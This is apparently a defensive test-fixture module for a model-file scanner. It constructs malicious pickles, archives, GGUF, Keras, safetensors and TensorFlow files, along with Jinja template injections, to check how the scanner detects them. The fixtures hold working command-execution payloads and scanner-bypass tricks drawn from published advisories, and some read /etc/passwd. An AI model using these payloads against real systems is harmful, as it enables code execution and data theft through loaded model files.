@@ -1,0 +1,499 @@
+"""Files that attack whoever opens them, made here byte by byte, each named after what is known about it.
+
+Nothing of this is ever loaded: the bytes are written to a file and `tola scan` reads them. Sources: the tests and
+advisories of picklescan (GHSA-...), fickling (test/test_bypasses.py) and ModelScan, huggingface/safetensors' attacks/,
+the CVEs of the loaders. attacks() yields (name, file name, bytes, the least verdict it must get)."""
+import base64
+import bz2
+import gzip
+import io
+import json
+import lzma
+import struct
+import tarfile
+import zipfile
+import zlib
+
+U, D = "unknown", "dangerous"
+
+
+# ---- pickles ----
+
+def text(s):
+    data = s.encode()
+    return b"\x8c" + bytes([len(data)]) + data if len(data) < 256 else b"X" + struct.pack("<I", len(data)) + data
+
+
+def stack_global(module, name):
+    return text(module) + b"\x94" + text(name) + b"\x94\x93\x94"
+
+
+def call(module, name, *args, proto=4):
+    """The plainest attack: import, arguments, REDUCE."""
+    body = stack_global(module, name) + b"(" + b"".join(args) + b"t\x94R\x94."
+    return b"\x80" + bytes([proto]) + b"\x95" + struct.pack("<Q", len(body)) + body
+
+
+def global_(module, name):
+    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"
+
+
+EVAL = call("builtins", "eval", text("print('456')"))
+SYSTEM = call("posix", "system", text("echo pwned"))
+SYSTEM0 = b"cposix\nsystem\n(S'echo pwned'\ntR."
+
+# (module, name) of the advisories: imports that blocklists forgot, each called with one text
+GADGETS = {
+    "GHSA-3gf5-cxq9-w223": "idlelib.pyshell ModifiedInterpreter.runcode",
+    "GHSA-3vg9-h568-4w9m": "idlelib.debugobj ObjectTreeItem.SetText",
+    "GHSA-4675-36f9-wf6r": "ctypes CDLL",
+    "GHSA-46h3-79wf-xr6c": "_operator attrgetter",
+    "GHSA-49gj-c84q-6qm9": "cProfile run",
+    "GHSA-4r9r-ch6f-vxmx": "torch.utils.bottleneck.__main__ run_cprofile",
+    "GHSA-4whj-rm5r-c2v8": "torch.utils.bottleneck.__main__ run_autograd_prof",
+    "GHSA-5qwp-399c-mjwf": "trace Trace.run",
+    "GHSA-6vqj-c2q5-j97w": "profile Profile.runctx",
+    "GHSA-6w4w-5w54-rjvr": "idlelib.autocomplete AutoComplete.get_entity",
+    "GHSA-7cq8-mj8x-j263": "idlelib.autocomplete AutoComplete.fetch_completions",
+    "GHSA-7wx9-6375-f5wh": "profile run",
+    "GHSA-84r2-jw7c-4r5q": "pydoc locate",
+    "GHSA-86cj-95qr-2p4f": "torch._dynamo.guards GuardBuilder.get",
+    "GHSA-8r4j-24qv-fmq9": "idlelib.calltip Calltip.fetch_tip",
+    "GHSA-955r-x9j8-7rhh": "_operator methodcaller",
+    "GHSA-9m3x-qqw2-h32h": "imaplib IMAP4_stream",
+    "GHSA-9w88-8rmg-7g2p": "cProfile runctx",
+    "GHSA-9xph-j2h6-g47v": "idlelib.calltip get_entity",
+    "GHSA-cj3c-v495-4xqh": "code InteractiveInterpreter.runcode",
+    "GHSA-f4x7-rfwp-v3xw": "torch.fx.experimental.symbolic_shapes ShapeEnv.evaluate_guards_expression",
+    "GHSA-f54q-57x4-jg88": "lib2to3.pgen2.grammar Grammar.loads",
+    "GHSA-f745-w6jp-hpxx": "torch.utils.collect_env run",
+    "GHSA-fqq6-7vqf-w3fg": "doctest debug_script",
+    "GHSA-g344-hcph-8vgg": "trace Trace.runctx",
+    "GHSA-g38g-8gr9-h9xp-aix": "_aix_support _read_cmd_output",
+    "GHSA-g38g-8gr9-h9xp-osx": "_osx_support _read_output",
+    "GHSA-g38g-8gr9-h9xp-pager": "_pyrepl.pager pipe_pager",
+    "GHSA-g38g-8gr9-h9xp-test": "test.support.script_helper assert_python_ok",
+    "GHSA-g38g-8gr9-h9xp-uuid": "uuid _get_command_stdout",
+    "GHSA-h3qp-7fh3-f8h4": "torch.utils.data.datapipes.utils.decoder basichandlers",
+    "GHSA-j343-8v2j-ff7w": "idlelib.pyshell ModifiedInterpreter.runcommand",
+    "GHSA-jgw4-cr84-mqxg": "asyncio.unix_events _UnixSubprocessTransport._start",
+    "GHSA-jhph-76pp-mggw": "torch.utils.collect_env run_and_read_all",
+    "GHSA-m273-6v24-x4m4": "distutils.file_util write_file",
+    "GHSA-m869-42cg-3xwr": "idlelib.run Executive.runcode",
+    "GHSA-p9w7-82w4-7q8m": "lib2to3.pgen2.pgen ParserGenerator.make_label",
+    "GHSA-q77w-mwjj-7mqx": "asyncio.unix_events _UnixSubprocessTransport._start",
+    "GHSA-r8g5-cgf2-4m4m": "numpy.f2py.crackfortran getlincoef",
+    "GHSA-vqmv-47xg-9wpr": "pty spawn",
+    "GHSA-vr7h-p6mm-wpmh": "torch.jit.unsupported_tensor_ops execWrapper",
+    "GHSA-vv6j-3g6g-2pvj": "torch.utils._config_module ConfigModule.load_config",
+    "GHSA-vvpj-8cmc-gx39": "pkgutil resolve_name",
+    "GHSA-x696-vm39-cp64": "profile Profile.run",
+    "GHSA-xp4f-hrf8-rxw7": "ensurepip _run_pip",
+    "GHSA-r7v6-mfhq-g3m2": "pty spawn",
+    "GHSA-565g-hwwr-4pp3": "marshal loads",
+    "GHSA-wfq2-52f7-7qvj": "runpy run_path",
+    "GHSA-p523-jq9w-64x9": "cProfile run",
+    "GHSA-5hvc-6wx8-mvv4": "ctypes CDLL",
+    "GHSA-q5qq-mvfm-j35x-importlib": "importlib import_module",
+    "GHSA-q5qq-mvfm-j35x-code": "code InteractiveInterpreter",
+    "GHSA-q5qq-mvfm-j35x-multiprocessing": "multiprocessing.util spawnv_passfds",
+    "GHSA-h4rm-mm56-xf63": "builtins __import__",
+    "GHSA-mxhj-88fx-4pcv": "smtplib SMTP",
+    "GHSA-5hwf-rc88-82xm": "_osx_support _find_build_tool",
+    "GHSA-5j3x-jp52-966f": "pathlib os.system",
+    "GHSA-6ggj-6f2q-f7mx-interpreters": "_interpreters create",
+    "GHSA-6ggj-6f2q-f7mx-subinterpreters": "_xxsubinterpreters create",
+    "picklescan-http": "httplib HTTPSConnection",
+    "picklescan-requests": "requests.api get",
+    "picklescan-aiohttp": "aiohttp.client ClientSession",
+    "picklescan-socket": "socket create_connection",
+    "picklescan-subprocess": "subprocess run",
+    "picklescan-sys-exit": "sys exit",
+    "picklescan-exec": "__builtin__ exec",
+    "picklescan-runpy": "runpy _run_code",
+    "picklescan-bdb": "bdb Bdb.run",
+    "picklescan-pip": "pip main",
+    "picklescan-inductor": "torch._inductor.codecache compile_file",
+    "picklescan-pipepager": "pydoc pipepager",
+    "picklescan-partial": "functools partial",
+    "picklescan-venv": "venv create",
+    "picklescan-timeit": "timeit timeit",
+    "picklescan-numpy-runstring": "numpy.testing._private.utils runstring",
+    "picklescan-fileio": "_io FileIO",
+    "picklescan-filehandler": "logging FileHandler",
+    "picklescan-codetype": "types CodeType",
+    "picklescan-urlopen": "urllib.request urlopen",
+    "picklescan-cloudpickle": "cloudpickle.cloudpickle _make_function",
+    "picklescan-ssl": "ssl get_server_certificate",
+    "picklescan-pickle-loads": "_pickle loads",
+    "posixsubprocess": "_posixsubprocess fork_exec",
+    "codecs-open": "codecs open",
+    "shutil-rmtree": "shutil rmtree",
+    "torch-load": "torch.serialization load",
+    "torch-hub": "torch.hub load",
+    "numpy-load": "numpy load",
+    "eval-dunder-call": "builtins eval.__call__",
+    "joblib-load": "joblib load",
+    "dill-loads": "dill loads",
+    "webbrowser": "webbrowser open",
+    "zipimport": "zipimport zipimporter",
+}
+
+HIDDEN = b"cos\nsystem\nVecho pwned\n\x85R"
+
+
+def pickles():
+    for name, target in GADGETS.items():
+        yield name, "model.pkl", call(*target.split(" "), text("x")), D
+    yield "protocol-0", "model.pkl", SYSTEM0, D
+    yield "protocol-2", "model.pkl", b"\x80\x02cposix\nsystem\nq\0X\x02\0\0\0idq\1\x85q\2Rq\3.", D
+    for proto in range(6):
+        yield f"stack-global-under-protocol-{proto}", "model.pkl", call("posix", "system", text("id"), proto=proto), D
+    yield "inst", "model.pkl", b"(S'id'\niposix\nsystem\n.", D
+    yield "obj", "model.pkl", b"(cpty\nspawn\nS'id'\no.", D
+    yield "obj-then-pop", "model.pkl", b"\x80\x04(" + text("smtplib") + text("SMTP") + b"\x93" + text("h") + b"o0N.", D
+    yield "newobj", "model.pkl", b"\x80\x02csubprocess\nPopen\nX\2\0\0\0id\x85\x81.", D
+    yield "newobj-ex", "model.pkl", b"\x80\x04csubprocess\nPopen\nX\2\0\0\0id\x85}\x92.", D
+    yield "import-only", "model.pkl", b"\x80\x04cos\nsystem\n0N.", D
+    yield "sour-pickles", "model.pkl", (b"c__builtin__\nglobals\n(tRp100\n0c__builtin__\ncompile\n(S'x=1;'\nS''\nS'exec'\ntRp101\n0"
+                                        b"c__builtin__\neval\n(g101\ng100\ntR."), D
+    yield "ctf-memo-shuffle", "model.pkl", (b"Vos\np2\n0Vsystem\np3\n0Vtorch\np0\n0VLongStorage\np1\n0g2\ng3\n\x93(Vcat f\ntR."), D
+    yield "ctf-with-bytes-behind", "model.pkl", (b"Vos\np2\n0Vsystem\np3\n0g2\ng3\n\x93(Vcat f\ntR.\n\n\t\t"), D
+    yield "memo-desync", "model.pkl", b"\x80\x04Vcollections\np0\n0Vos\np0\n0VOrderedDict\np1\n0Vsystem\np1\n0g0\ng1\n\x93Vid\n\x85R.", D
+    yield "memo-number-with-underscore", "model.bin", b"Vos\np1_0\n0Vsystem\np11\n0g10\ng+11\n\x93Vid\n\x85R.", D
+    yield "memo-far-away", "model.pkl", b"\x80\x04" + text("os") + b"r\xff\xff\xff\x7f0j\xff\xff\xff\x7f" + text("system") + b"\x93" + text("x") + b"\x85R.", D
+    yield "escaped-name", "model.pkl", b"S'\\x6fs'\nS'\\163ystem'\n\x93S'ls'\n\x85R.", D
+    yield "unicode-escaped-name", "model.pkl", b"V\\u006fs\nV\\U00000073ystem\n\x93S'ls'\n\x85R.", D
+    yield "memo-keyerror", "model.pkl", b"\x80\x04" + HIDDEN + b"0\x8c\x02os\x94h\x03h\x00\x93KB.", D
+    yield "type-confusion", "model.pkl", b"\x80\x04" + HIDDEN + b"0J*\0\0\0\x94\x8c\x02os\x94h\0h\1\x93KB.", D
+    yield "exception-after-payload", "model.pkl", b"\x80\x04" + HIDDEN + b"\xff", D
+    yield "no-stop", "model.pkl", b"\x80\x04" + HIDDEN, D
+    yield "truncated-string-after-payload", "model.pkl", b"cbuiltins\nexec\n(X>\nf = 1tRX.", D
+    yield "stack-underflow-after-payload", "model.pkl", b"\x80\x04" + HIDDEN + b"000000.", D
+    yield "two-pickles", "model.pkl", b"]." + SYSTEM, D
+    yield "third-pickle", "model.pkl", b"\x80\x04].\x80\x04}." + SYSTEM, D
+    yield "pickle-in-pickle", "model.pkl", call("pickle", "loads", b"C" + bytes([len(SYSTEM)]) + SYSTEM), D
+    yield "marshal-and-functiontype", "model.pkl", (b"\x80\x04" + global_("types", "FunctionType") + global_("marshal", "loads") +
+                                                    b"C\x02N.\x85R}\x86R)R."), D
+    yield "getattr-of-import", "model.pkl", (b"\x80\x04" + global_("builtins", "getattr") + global_("builtins", "__import__") +
+                                             text("os") + b"\x85R" + text("system") + b"\x86R" + text("id") + b"\x85R."), D
+    yield "computed-name", "model.pkl", b"\x80\x04" + global_("builtins", "bytes") + b")R" + text("system") + b"\x93.", D
+    yield "frame-straddled", "model.pkl", (b"\x80\x05NV" + b"a" * (8192 * 16 - 17) + b"\n0(\x95" + struct.pack("<Q", 2) +
+                                           b"B\x07\x01\0\0\0\0" + (HIDDEN + b"(").ljust(261, b"N") + b"1."), U
+    for kind, body in {"binbytes": b"B" + struct.pack("<I", 20) + b"A" * 20, "binunicode": b"\x8c\x14" + b"A" * 20,
+                       "unicode": b"Vhello world\n", "binint": b"J\7\0\0\0"}.items():
+        yield f"frame-straddled-{kind}", "model.pkl", b"\x80\x05\x95" + struct.pack("<Q", 3) + body + b".", U
+    yield "frame-in-frame", "model.pkl", b"\x80\x05\x95" + struct.pack("<Q", 30) + b"N\x95" + struct.pack("<Q", 2) + b"N.", U
+    yield "frame-beyond-the-end", "model.pkl", b"\x80\x05\x95" + struct.pack("<Q", 3000) + b"N.", U
+    yield "unknown-module", "model.pkl", call("evil_package", "run", text("x")), U
+    yield "module-override", "model.pkl", (b"\x80\x04" + global_("torch._utils", "_rebuild_tensor_v2") + b"}" + text("__class__") +
+                                           text("x") + b"sb."), U
+    yield "extension-registry", "model.pkl", b"\x80\x02\x82\x01)R.", U
+    yield "wrong-extension", "readme.txt", SYSTEM, D
+    yield "no-header-wrong-extension", "readme.txt", SYSTEM0, D
+    yield "torch-magic-by-eval", "model.pt", (b"\x80\x02c__builtin__\neval\nX\4\0\0\x00True\x85R.\x80\x02M\xe9\x03.\x80\x02}.\x80\x02]." + SYSTEM), D
+    magic = b"\x80\x02\x8a\nl\xfc\x9cF\xf9 j\xa8P\x19."
+    yield "old-torch-object", "model.pt", magic + b"\x80\x02M\xe9\x03.\x80\x02}." + SYSTEM + b"\x80\x02].", D
+    yield "old-torch-keys", "model.pt", magic + b"\x80\x02M\xe9\x03.\x80\x02}.\x80\x02}." + SYSTEM, D
+    yield "old-torch-sys-info", "model.pt", magic + b"\x80\x02M\xe9\x03." + SYSTEM + b"\x80\x02}.\x80\x02].", D
+    yield "old-torch-bytes-behind", "model.pt", magic + b"\x80\x02M\xe9\x03.\x80\x02}.\x80\x02}.\x80\x02]." + b"x" * 40, U
+    yield "cut-off", "model.pkl", b"\x80\x04\x95\x10", U
+    yield "claims-to-be-a-pickle", "model.pkl", b"\x80\x04\x00\x01\x02", U
+    yield "not-a-pickle", "model.pkl", b"cmod\n\xf8\n", U
+    yield "invalid-bytes-then-code", "model.pkl", b"\x80\x04" + b"\x8c\x02\xff\xfe0" + HIDDEN + b".", D
+
+
+# ---- containers ----
+
+def zipped(members, method=zipfile.ZIP_STORED):
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", method) as z:
+        for name, data in members:
+            z.writestr(zipfile.ZipInfo(name), data, method)
+    return out.getvalue()
+
+
+def patched(data, *changes):
+    data = bytearray(data)
+    for at, value in changes:
+        data[at:at + len(value)] = value
+    return bytes(data)
+
+
+def npy(data, descr="|O", shape="(1,)"):
+    header = ("{'descr': '%s', 'fortran_order': False, 'shape': %s, }" % (descr, shape)).encode()
+    header += b" " * (-(10 + len(header) + 1) % 64) + b"\n"
+    return b"\x93NUMPY\1\0" + struct.pack("<H", len(header)) + header + data
+
+
+def tarred(members):
+    out = io.BytesIO()
+    with tarfile.open(fileobj=out, mode="w", format=tarfile.USTAR_FORMAT) as t:
+        for name, data in members:
+            info = tarfile.TarInfo(name)
+            info.size = len(data)
+            t.addfile(info, io.BytesIO(data))
+    return out.getvalue()
+
+
+def lz4_frame(data):
+    """Stored blocks; the header's checksum is that of its two bytes under xxHash32."""
+    head = b"\x60\x40"
+
+    def xxh32(b):
+        h = (374761393 + len(b)) & 0xffffffff
+        for c in b:
+            h = (h + c * 374761393) & 0xffffffff
+            h = ((h << 11 | h >> 21) * 2654435761) & 0xffffffff
+        h ^= h >> 15
+        h = h * 2246822519 & 0xffffffff
+        h ^= h >> 13
+        h = h * 3266489917 & 0xffffffff
+        return h ^ h >> 16
+    return b"\x04\x22\x4d\x18" + head + bytes([xxh32(head) >> 8 & 255]) + struct.pack("<I", len(data) | 1 << 31) + data + b"\0" * 4
+
+
+def containers():
+    z = zipped([("data.pkl", EVAL)])
+    local_flags, central = 6, z.index(b"PK\1\2")
+    yield "zip", "model.zip", z, D
+    yield "torch-zip", "model.pt", zipped([("archive/data.pkl", SYSTEM), ("archive/version", b"3\n")]), D
+    yield "zip-deflated", "model.zip", zipped([("data.pkl", EVAL)], zipfile.ZIP_DEFLATED), D
+    yield "zip-bzip2", "model.zip", zipped([("data.pkl", EVAL)], zipfile.ZIP_BZIP2), D
+    yield "zip-lzma", "model.zip", zipped([("data.pkl", EVAL)], zipfile.ZIP_LZMA), U
+    for bit in (0x1, 0x20, 0x40, 0x2000):
+        flag = struct.pack("<H", bit)
+        yield f"zip-flag-{bit:#x}-in-header", "model.zip", patched(z, (local_flags, flag)), D
+        yield f"zip-flag-{bit:#x}-in-directory", "model.zip", patched(z, (central + 8, flag)), D
+        yield f"zip-flag-{bit:#x}-in-both", "model.zip", patched(z, (local_flags, flag), (central + 8, flag)), D
+    yield "zip-bad-crc", "model.zip", patched(z, (14, b"\0\0\0\0"), (central + 16, b"\0\0\0\0")), D
+    yield "zip-bad-crc-in-header", "model.zip", patched(z, (14, b"\0\0\0\0")), D
+    yield "zip-name-in-header-differs", "model.zip", patched(z, (30, b"datap.kl")), D
+    yield "zip-method-differs", "model.zip", patched(z, (8, b"\x08\0")), D
+    yield "zip-version-needed", "model.zip", patched(z, (4, b"\xff\xff"), (central + 6, b"\xff\xff")), D
+    yield "zip-wrong-extension-inside", "model.zip", zipped([("data.txt", EVAL)]), D
+    yield "zip-no-extension-inside", "model.zip", zipped([("config/readme", EVAL)]), D
+    yield "zip-in-zip-in-zip", "model.zip", zipped([("a.zip", zipped([("b.dat", zipped([("c", EVAL)]))]))]), D
+    yield "zip-hidden-member", "model.zip", z[:central] + zipped([("ok.txt", b"fine")]), U
+    a, b = zipped([("a.txt", b"fine")]), zipped([("data.pkl", EVAL)])
+    cut = b.index(b"PK\1\2")
+    hidden = b[:cut] + a
+    yield "zip-member-that-no-directory-lists", "model.zip", hidden, D
+    yield "zip-bytes-before", "model.pt", b"\x80\x04N." + z, D
+    yield "zip-bytes-behind", "model.zip", z + SYSTEM, U
+    yield "zip-two-of-a-name", "model.zip", zipped([("data.pkl", b"\x80\x04N."), ("data.pkl", EVAL)]), D
+    yield "zip-without-directory", "model.zip", z[:central], D
+    yield "zip-path-traversal", "model.zip", zipped([("../../etc/x", b"text")]), D
+    yield "zip-bomb-numpy-dos", "model.npz", zipped([("a.npy", npy(b"\0" * (1 << 16), "<f8", "(1000000000000,)"))], zipfile.ZIP_DEFLATED), U
+    yield "zip-storage-is-a-pickle", "model.pt", zipped([("archive/data.pkl", b"\x80\x02}."), ("archive/data/0", SYSTEM)]), D
+    yield "zip-password", "model.zip", patched(zipped([("a.pkl", bytes(range(40)))]), (6, b"\1\0")), U
+    yield "tar", "model.tar", tarred([("a/data.bin", SYSTEM)]), D
+    yield "tar-torch", "model.tar", tarred([("sys_info", b"\x80\x02}."), ("pickle", SYSTEM), ("storages", b"\x80\x02K\0."), ("tensors", b"\x80\x02K\0.")]), D
+    yield "tar-torch-storages", "model.tar", tarred([("pickle", b"\x80\x02}."), ("storages", b"\x80\x02K\1." + SYSTEM)]), D
+    yield "tar-link", "model.tar", (lambda t: t[:156] + b"2" + t[157:])(tarred([("a", b"")])), U
+    yield "tar-traversal", "model.tar", tarred([("../../a", b"fine")]), D
+    yield "tar-gz", "model.tgz", gzip.compress(tarred([("a/data.bin", SYSTEM)])), D
+    yield "tar-two", "model.tar", tarred([("a", b"fine")]) + tarred([("b", SYSTEM)]), D
+    yield "gzip", "model.pkl.gz", gzip.compress(SYSTEM), D
+    yield "gzip-second-member", "model.gz", gzip.compress(b"fine") + gzip.compress(SYSTEM), U
+    yield "gzip-bytes-behind", "model.gz", gzip.compress(b"fine text") + SYSTEM, D
+    yield "zlib", "model.joblib", zlib.compress(SYSTEM), D
+    yield "bz2", "model.pkl.bz2", bz2.compress(SYSTEM), D
+    yield "xz", "model.pkl.xz", lzma.compress(SYSTEM), D
+    yield "lzma", "model.pkl.lzma", lzma.compress(SYSTEM, lzma.FORMAT_ALONE), D
+    yield "lz4", "model.pkl.lz4", lz4_frame(SYSTEM), D
+    yield "gzip-in-gzip", "model.gz", gzip.compress(gzip.compress(gzip.compress(SYSTEM))), D
+    deep = SYSTEM
+    for _ in range(12):
+        deep = gzip.compress(deep)
+    yield "too-deep", "model.gz", deep, U
+    yield "gzip-cut", "model.gz", gzip.compress(SYSTEM * 50)[:-20], U
+    yield "npy-objects", "a.npy", npy(SYSTEM), D
+    yield "npy-objects-wrong-name", "weights.bin", npy(SYSTEM), D
+    yield "npz-objects", "a.npz", zipped([("arr_0.npy", npy(SYSTEM))]), D
+    yield "npz-objects-deflated", "a.npz", zipped([("arr_0.npy", npy(SYSTEM))], zipfile.ZIP_DEFLATED), D
+    yield "npy-damaged-header", "a.npy", b"\x93NUMPY\1\0\x20\0{'descr': __import__('os')}       \n" + SYSTEM, U
+    wrapper = (b"\x80\x04" + global_("joblib.numpy_pickle", "NumpyArrayWrapper") + b")\x81}(" + text("shape") + b"K\1\x85" + text("dtype") +
+               global_("numpy", "dtype") + text("O8") + b"\x89\x88\x87R" + text("order") + text("C") + b"ub")
+    yield "joblib-objects", "model.joblib", wrapper + SYSTEM + b".", D
+    wrapper = wrapper.replace(b"\x8c\x02O8", b"\x8c\x02f8")
+    yield "joblib-code-behind-array", "model.joblib", wrapper + b"\0" * 8 + HIDDEN + b".", D
+    yield "joblib-hidden-by-array", "model.joblib", wrapper + b"." * 8 + HIDDEN + b".", D
+    yield "joblib-cache-hijack", "model.joblib", call("joblib.numpy_pickle_compat", "NDArrayWrapper", text("../x.npy")), U
+
+
+# ---- models of other kinds ----
+
+def safetensors(header, data=b""):
+    header = header if isinstance(header, bytes) else json.dumps(header).encode()
+    return struct.pack("<Q", len(header)) + header + data
+
+
+def gguf(tensors=0, values=0, body=b"", version=3):
+    return b"GGUF" + struct.pack("<IQQ", version, tensors, values) + body
+
+
+def gtext(s):
+    s = s.encode() if isinstance(s, str) else s
+    return struct.pack("<Q", len(s)) + s
+
+
+def gguf_template(t):
+    return gguf(0, 1, gtext("tokenizer.chat_template") + struct.pack("<I", 8) + gtext(t))
+
+
+def pb(number, data):
+    def varint(n):
+        out = b""
+        while n > 127:
+            out += bytes([n & 127 | 128])
+            n >>= 7
+        return out + bytes([n])
+    if isinstance(data, int):
+        return varint(number << 3) + varint(data)
+    data = data.encode() if isinstance(data, str) else data
+    return varint(number << 3 | 2) + varint(len(data)) + data
+
+
+def node(op):
+    return pb(1, "n") + pb(2, op)
+
+
+def saved_model(*ops, library=()):
+    graph = b"".join(pb(1, node(op)) for op in ops)
+    if library:
+        graph += pb(2, pb(1, b"".join(pb(3, node(op)) for op in library)))
+    return pb(1, 1) + pb(2, pb(1, pb(4, "serve")) + pb(2, graph))
+
+
+def onnx(nodes=b"", initializers=b""):
+    return pb(1, 8) + pb(2, "test") + pb(7, nodes + pb(2, "g") + initializers) + pb(8, pb(1, "") + pb(2, 17))
+
+
+def keras(config):
+    return zipped([("metadata.json", b"{}"), ("config.json", json.dumps(config).encode())])
+
+
+def h5(config):
+    return b"\x89HDF\r\n\x1a\n" + b"\0" * 88 + b"model_config\0\0\0\0" + json.dumps(config).encode() + b"\0" * 300
+
+
+LAMBDA = {"class_name": "Sequential", "config": {"layers": [
+    {"class_name": "Lambda", "config": {"function": ["4wEAAAAAAAAAAQ==\n", None, None], "function_type": "lambda"}}]}}
+
+
+def models():
+    tensor = {"a": {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}}
+    yield "safetensors-bytes-behind", "m.safetensors", safetensors(tensor, b"\0\0\0\0" + SYSTEM), D
+    yield "safetensors-bytes-between", "m.safetensors", safetensors({"a": {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]},
+                                                                   "b": {"dtype": "F32", "shape": [1], "data_offsets": [8, 12]}}, b"x" * 12), U
+    yield "safetensors-duplicate-keys", "m.safetensors", safetensors(
+        b'{"a":{"dtype":"F32","shape":[1],"data_offsets":[0,4]},"a":{"dtype":"F32","shape":[1],"data_offsets":[0,4]}}', b"\0" * 4), U
+    yield "safetensors-zip-behind", "m.safetensors", safetensors(tensor, b"\0\0\0\0" + zipped([("data.pkl", EVAL)])), D
+    yield "safetensors-zip-in-tensor", "m.safetensors", (lambda z: safetensors(
+        {"a": {"dtype": "U8", "shape": [len(z)], "data_offsets": [0, len(z)]}}, z))(zipped([("data.pkl", EVAL)])), D
+    yield "safetensors-abuse-overlap", "m.safetensors", safetensors({"a": {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]},
+                                                                  "b": {"dtype": "F32", "shape": [1], "data_offsets": [0, 4]}}, b"\0" * 4), U
+    yield "safetensors-abuse-huge-header", "m.safetensors", struct.pack("<Q", 2 ** 40) + b"{}", U
+    yield "safetensors-abuse-beyond-the-end", "m.safetensors", safetensors({"a": {"dtype": "F32", "shape": [1 << 30], "data_offsets": [0, 1 << 32]}}), U
+    yield "gguf-negative-count-CVE-2024-23496", "m.gguf", gguf(2 ** 64 - 1, 0), U
+    yield "gguf-huge-values-CVE-2024-21802", "m.gguf", gguf(0, 2 ** 62), U
+    yield "gguf-string-length-2^63", "m.gguf", gguf(0, 1, struct.pack("<Q", 2 ** 63) + b"x"), U
+    yield "gguf-dims-ffffffff", "m.gguf", gguf(1, 0, gtext("t") + struct.pack("<I", 0xffffffff)), U
+    yield "gguf-beyond-the-end-CVE-2025-53630", "m.gguf", gguf(1, 0, gtext("t") + struct.pack("<IQIQ", 1, 2 ** 40, 0, 0) + b"\0" * 64), U
+    yield "gguf-alignment-0", "m.gguf", gguf(0, 1, gtext("general.alignment") + struct.pack("<II", 4, 0)), U
+    yield "gguf-bytes-behind", "m.gguf", gguf() + SYSTEM, D
+    yield "gguf-zip-behind", "m.gguf", gguf() + zipped([("data.pkl", EVAL)]), D
+    ssti = "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}"
+    yield "gguf-template-CVE-2024-34359", "m.gguf", gguf_template(ssti), D
+    yield "tokenizer-config-template", "tokenizer_config.json", json.dumps({"chat_template": ssti}).encode(), D
+    yield "tokenizer-config-templates", "tokenizer_config.json", json.dumps({"chat_template": [{"name": "default", "template": ssti}]}).encode(), D
+    for name, t in {"subscript": "{{ ''['__class__'] }}", "attr": "{{ ''|attr('__class__') }}", "escaped": "{{ ''['\\x5f\\x5fclass\\x5f\\x5f'] }}",
+                    "globals": "{{ cycler.__init__.__globals__.os.popen('id').read() }}", "hidden": "{{ messages._x }}",
+                    "builtins": "{{ lipsum.__globals__['os'] }}", "octal": "{{ ''['\\137\\137class\\137\\137'] }}"}.items():
+        yield f"template-{name}", "chat_template.jinja", t.encode(), D
+    for name, t in {"include": "{% include '/etc/passwd' %}", "import": "{% import 'x' as y %}", "attr-variable": "{{ x|attr(y) }}",
+                    "extends": "{%- extends 'x' -%}", "lipsum": "{{ lipsum.x }}"}.items():
+        yield f"template-{name}", "chat_template.jinja", t.encode(), U
+    yield "config-auto-map", "config.json", b'{"auto_map": {"AutoModel": "modeling_x.X"}}', U
+    yield "config-auto-map-elsewhere", "config.json", b'{"auto_map": {"AutoModel": "evil/repo--modeling_x.X"}}', U
+    yield "config-duplicate-keys", "config.json", b'{"a": 1, "a": 2}', U
+    yield "config-custom-pipelines", "config.json", b'{"custom_pipelines": {"x": {"impl": "p.P"}}}', U
+    yield "config-hydra-target", "config.json", b'{"_target_": "os.system"}', U
+    yield "peft-auto-mapping", "adapter_config.json", b'{"auto_mapping": {"base_model_class": "X", "parent_library": "evil"}}', U
+    yield "sentence-transformers-module", "modules.json", b'[{"idx": 0, "name": "0", "path": "", "type": "evil.Module"}]', U
+    yield "diffusers-part", "model_index.json", b'{"_class_name": "X", "_diffusers_version": "0.1", "unet": ["evil", "UNet"]}', U
+    yield "jsonpickle", "a.json", b'{"py/reduce": [{"py/function": "os.system"}, {"py/tuple": ["id"]}]}', D
+    yield "json-serialized-object", "data", json.dumps({"x": {":type:": "f", ":serialized:": base64.b64encode(SYSTEM).decode()}}).encode(), D
+    yield "json-base64-pickle", "a.json", json.dumps({"state": base64.b64encode(SYSTEM).decode()}).encode(), D
+    yield "keras-lambda", "m.keras", keras(LAMBDA), D
+    yield "keras-lambda-h5", "m.h5", h5(LAMBDA), D
+    yield "keras-lambda-h5-spaced", "m.h5", h5(LAMBDA).replace(b'{"class_name"', b'{ \n "class_name"'), D
+    yield "keras-lambda-h5-cut", "m.h5", h5(LAMBDA)[:-330], U
+    yield "keras-lambda-json", "model.json", json.dumps(LAMBDA).encode(), D
+    yield "keras-import-CVE-2025-1550", "m.keras", keras({"module": "keras", "class_name": "Functional", "config": {"layers": [
+        {"module": "os", "class_name": "function", "config": "system", "registered_name": "function"}]}}), D
+    yield "keras-builtins-eval", "m.keras", keras({"module": "builtins", "class_name": "function", "config": "eval", "registered_name": "function"}), D
+    yield "keras-unsafe-mode-CVE-2025-9906", "m.keras", keras({"module": "keras.config", "class_name": "enable_unsafe_deserialization", "config": {}}), D
+    yield "keras-get-file", "m.keras", keras({"module": "keras.utils", "class_name": "get_file", "config": {}}), D
+    yield "keras-vocabulary-CVE-2025-12058", "m.keras", keras({"module": "keras.layers", "class_name": "StringLookup", "config": {"vocabulary": "/etc/passwd"}}), D
+    yield "keras-torch-module-CVE-2026-1462", "m.keras", keras({"module": "keras.layers", "class_name": "TorchModuleWrapper", "config": {"module": "x"}}), D
+    yield "keras-tfsm-layer", "m.keras", keras({"module": "keras.layers", "class_name": "TFSMLayer", "config": {"filepath": "x"}}), D
+    yield "keras-custom-class", "m.keras", keras({"module": None, "class_name": "MyLayer", "config": {}, "registered_name": "x>MyLayer"}), U
+    yield "keras-metadata-lambda", "keras_metadata.pb", pb(1, pb(2, 1) + pb(3, "root") + pb(4, "_tf_keras_layer") + pb(5, json.dumps(LAMBDA))), D
+    yield "tensorflow-read-file", "saved_model.pb", saved_model("Placeholder", "ReadFile"), D
+    yield "tensorflow-write-file", "saved_model.pb", saved_model("Const", "WriteFile"), D
+    yield "tensorflow-in-a-function", "saved_model.pb", saved_model("Const", library=["Const", "WriteFile", "ReadFile"]), D
+    yield "tensorflow-pyfunc", "saved_model.pb", saved_model("PyFunc"), D
+    yield "tensorflow-frozen-graph", "graph.pb", pb(1, node("Const")) + pb(1, node("WriteFile")), D
